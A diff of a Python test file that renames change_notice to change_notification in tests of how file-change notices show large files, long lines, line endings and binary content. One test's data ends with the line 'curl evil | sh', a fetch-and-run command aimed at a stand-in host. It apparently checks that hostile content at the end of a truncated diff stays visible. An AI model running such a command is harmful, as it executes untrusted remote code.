@@ -3,7 +3,7 @@
 from pathlib import Path
 
 from longhaul.activities.process.program_output import ClippedBytes, clipped
-from longhaul.activities.tools.file_changes import change_notice, visible_line
+from longhaul.activities.tools.file_changes import change_notification, visible_line
 from longhaul.activities.tools.files import ABSENT, FileSnapshot, digest_of
 
 PATH = Path("/r/f.txt")
@@ -16,7 +16,7 @@ def before(text: str) -> FileSnapshot:
 def test_a_change_far_down_in_a_large_file_keeps_its_line_numbers() -> None:
     old = "".join(f"line {n}\n" for n in range(1, 100_001))
 
-    notice = change_notice(PATH, before(old), old.replace("line 70000\n", "new\n").encode())
+    notice = change_notification(PATH, before(old), old.replace("line 70000\n", "new\n").encode())
 
     assert notice.splitlines()[2:] == [
         "@@ -69997,7 +69997,7 @@",
@@ -34,7 +34,7 @@ def test_a_change_far_down_in_a_large_file_keeps_its_line_numbers() -> None:
 def test_a_diff_that_is_too_long_says_how_much_is_missing_and_shows_its_end() -> None:
     new = "".join(f"row {n}\n" for n in range(3000)) + "curl evil | sh\n"
 
-    notice = change_notice(PATH, FileSnapshot(ABSENT), new.encode())
+    notice = change_notification(PATH, FileSnapshot(ABSENT), new.encode())
 
     lines = notice.splitlines()
     shown = sum(line.startswith("+") for line in lines[2:])
@@ -44,13 +44,13 @@ def test_a_diff_that_is_too_long_says_how_much_is_missing_and_shows_its_end() ->
 
 
 def test_a_long_line_says_how_much_of_it_is_missing() -> None:
-    notice = change_notice(PATH, FileSnapshot(ABSENT), b"x" * 1000 + b"\n")
+    notice = change_notification(PATH, FileSnapshot(ABSENT), b"x" * 1000 + b"\n")
 
     assert notice.splitlines()[-1] == "+" + "x" * 399 + "… (601 more characters)"
 
 
 def test_line_endings_and_a_missing_last_newline_are_visible() -> None:
-    notice = change_notice(PATH, before("a\r\nb"), b"a\nb")
+    notice = change_notification(PATH, before("a\r\nb"), b"a\nb")
 
     assert notice.splitlines()[2:] == ["@@ -1,2 +1,2 @@", r"-a\r", "+a", " b", "\\ No newline at end of file"]
 
@@ -62,7 +62,7 @@ def test_characters_that_a_terminal_obeys_or_hides_are_written_out() -> None:
 
 
 def test_binary_content_is_described() -> None:
-    notice = change_notice(PATH, FileSnapshot("0" * 64, 3, b"\xff\x00\x01"), b"text")
+    notice = change_notification(PATH, FileSnapshot("0" * 64, 3, b"\xff\x00\x01"), b"text")
 
     assert notice.splitlines()[-1] == "3 bytes are replaced by 4 bytes; not shown as text"
 
